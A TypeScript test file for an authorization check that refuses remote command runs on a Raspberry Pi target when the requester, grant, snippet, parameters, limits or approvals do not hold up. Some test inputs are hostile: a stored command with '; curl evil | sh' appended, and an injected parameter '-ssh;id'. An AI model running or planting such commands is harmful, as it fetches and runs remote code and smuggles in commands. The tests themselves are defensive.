import type { CommandRun } from '../../../src/domain/command-run';
import type { Grant } from '../../../src/domain/grant';
import {
  checkRunAuthority,
  describeRunAuthorityRefusal,
  type RunAuthorityRefusal,
} from '../../../src/domain/run-authority';
import { runConfig } from '../../support/run-scenarios';

const config = runConfig();

/** `user`'s grant on prod-raspi, active from 09:30 to 10:30 (runs below are asked for at 10:00). */
function grantOf(user: string, overrides: Partial<Grant> = {}): Grant {
  return {
    id: `g-${user}`,
    requester: user,
    principal: { kind: 'user', name: user.toLowerCase() },
    target: 'prod-raspi',
    durationMinutes: 60,
    reason: 'x',
    status: 'active',
    version: 3,
    requestedAt: '2026-11-23T09:29:00Z',
    approvals: [],
    startsAt: '2026-11-23T09:30:00Z',
    expiresAt: '2026-11-23T10:30:00Z',
    history: [],
    ...overrides,
  };
}

const ctx = (
  groups = { members: new Map([['S0SREGROUP', ['U0DAVE']]]), unresolved: new Set<string>() },
  grants: Grant[] = [grantOf('U0ALICE'), grantOf('U0CAROL')],
) => ({
  people: config.people,
  targets: config.targets,
  snippets: config.snippets,
  groups,
  grants,
  home: { accountId: config.aws.accountId, region: config.aws.region },
});

/** A queued `logs` run as `/run prod-raspi logs service=ssh` stores it. */
function logsRun(overrides: Partial<CommandRun> = {}): CommandRun {
  return {
    id: 'r1',
    snippet: 'logs',
    target: 'prod-raspi',
    params: { service: 'ssh', lines: '100' },
    command: "journalctl -u 'ssh' -n '100' --no-pager",
    requester: 'U0DAVE',
    channel: 'C0WORK',
    status: 'queued',
    version: 1,
    requestedAt: '2026-11-23T10:00:00Z',
    needsApproval: false,
    approvals: [],
    comment: 'Keyturn run r1 by U0DAVE: logs on prod-raspi',
    deliveryTimeoutSeconds: 300,
    executionTimeoutSeconds: 120,
    maxConcurrency: '10',
    maxErrors: '1',
    simulated: true,
    ...overrides,
  };
}

/** A `restart-agent` run (approval: true) approved by carol. */
function restartRun(overrides: Partial<CommandRun> = {}): CommandRun {
  return logsRun({
    snippet: 'restart-agent',
    params: {},
    command: 'sudo systemctl restart amazon-ssm-agent',
    executionTimeoutSeconds: 60,
    maxConcurrency: undefined,
    maxErrors: undefined,
    needsApproval: true,
    approvals: [{ by: 'U0CAROL', at: '2026-11-23T10:01:00Z' }],
    ...overrides,
  });
}

function expectRefused(run: CommandRun, expected: Partial<RunAuthorityRefusal>, context = ctx()) {
  const decision = checkRunAuthority(run, context);
  expect(decision).toMatchObject({ outcome: 'refuse', ...expected });
  if (decision.outcome === 'refuse') expect(describeRunAuthorityRefusal(decision)).toMatch(/\w/);
}

describe('checkRunAuthority allows runs as Keyturn stores them', () => {
  it.each([
    ['a snippet with parameters', logsRun()],
    ['an approved snippet', restartRun()],
    [
      'an approval by a member of a listed group',
      restartRun({ approvals: [{ by: 'U0DAVE', at: 'x' }], requester: 'U0ALICE' }),
    ],
  ])('%s', (_label, run) => {
    expect(checkRunAuthority(run, ctx())).toEqual({ outcome: 'allow' });
  });
});

describe('checkRunAuthority refuses a run that does not hold up', () => {
  it('unmapped-requester', () =>
    expectRefused(logsRun({ requester: 'U0MALLORY' }), { reason: 'unmapped-requester' }));
  it('unknown-target', () => expectRefused(logsRun({ target: 'prod-db' }), { reason: 'unknown-target' }));
  it.each([
    ['no grant at all', []],
    ['a grant on another target', [grantOf('U0ALICE', { target: 'staging-web' })]],
    [
      'a grant that ended before the request',
      [grantOf('U0ALICE', { expiresAt: '2026-11-23T09:59:59Z', status: 'expired' })],
    ],
    [
      'a grant released before the request',
      [grantOf('U0ALICE', { ending: { status: 'released', by: 'U0ALICE', at: '2026-11-23T09:45:00Z' } })],
    ],
    ['a grant never applied', [grantOf('U0ALICE', { status: 'approved' })]],
  ])('not-a-runner: neither a runner nor holding a grant when asking (%s)', (_label, grants) =>
    expectRefused(
      logsRun({ requester: 'U0ALICE' }),
      { reason: 'not-a-runner', requester: 'U0ALICE' },
      ctx(undefined, grants),
    ),
  );

  it('allows a requester whose grant was active when they asked, though it has ended since', () => {
    const ended = grantOf('U0ALICE', { status: 'expired' });
    expect(checkRunAuthority(logsRun({ requester: 'U0ALICE' }), ctx(undefined, [ended]))).toEqual({
      outcome: 'allow',
    });
  });

  it('unknown-snippet', () => expectRefused(logsRun({ snippet: 'rm-rf' }), { reason: 'unknown-snippet' }));
  it('snippet-not-on-target', () =>
    expectRefused(
      logsRun({ target: 'staging-web' }),
      { reason: 'snippet-not-on-target', target: 'staging-web' },
      ctx(undefined, [grantOf('U0DAVE', { target: 'staging-web' })]),
    ));

  it.each([
    ['an undeclared parameter', { service: 'ssh', lines: '100', extra: 'x' }],
    ['a missing parameter', { service: 'ssh' }],
    ['a value its pattern refuses', { service: '-ssh;id', lines: '100' }],
    ['a control character', { service: 'ssh\n', lines: '100' }],
  ])('bad-params: %s', (_label, params) => expectRefused(logsRun({ params }), { reason: 'bad-params' }));

  it('command-mismatch: the stored command is not what the snippet renders', () =>
    expectRefused(logsRun({ command: "journalctl -u 'ssh' -n '100' --no-pager; curl evil | sh" }), {
      reason: 'command-mismatch',
      rendered: "journalctl -u 'ssh' -n '100' --no-pager",
    }));

  it.each([
    ['a longer execution timeout', { executionTimeoutSeconds: 172_800 }],
    ['no execution timeout (AWS default) where the snippet sets one', { executionTimeoutSeconds: undefined }],
    ['a longer delivery timeout', { deliveryTimeoutSeconds: 2_592_000 }],
    ['every node at once where the snippet rolls out 10 at a time', { maxConcurrency: '100%' }],
    ['any number of errors where the snippet stops after 1', { maxErrors: '100%' }],
  ])('limits-mismatch: the stored run carries limits the snippet does not set (%s)', (_label, limits) =>
    expectRefused(logsRun(limits), { reason: 'limits-mismatch' }),
  );

  it('approval-skipped: an approval snippet stored as needing none', () =>
    expectRefused(restartRun({ needsApproval: false, approvals: [] }), { reason: 'approval-skipped' }));

  it('too-few-approvals: nobody approved', () =>
    expectRefused(restartRun({ approvals: [] }), { reason: 'too-few-approvals', have: 0, need: 1 }));

  it('too-few-approvals: the approver is not an approver of the target', () =>
    expectRefused(restartRun({ approvals: [{ by: 'U0BOB', at: 'x' }] }), {
      reason: 'too-few-approvals',
      notApprovers: ['U0BOB'],
    }));

  it('self-approval: the requester approved their own run', () =>
    expectRefused(restartRun({ requester: 'U0CAROL' }), { reason: 'self-approval' }));

  it('approvers-unresolved: a group approver while Slack cannot resolve the group', () =>
    expectRefused(
      restartRun({ approvals: [{ by: 'U0DAVE', at: 'x' }], requester: 'U0ALICE' }),
      { reason: 'approvers-unresolved' },
      ctx({ members: new Map(), unresolved: new Set(['S0SREGROUP']) }),
    ));
});
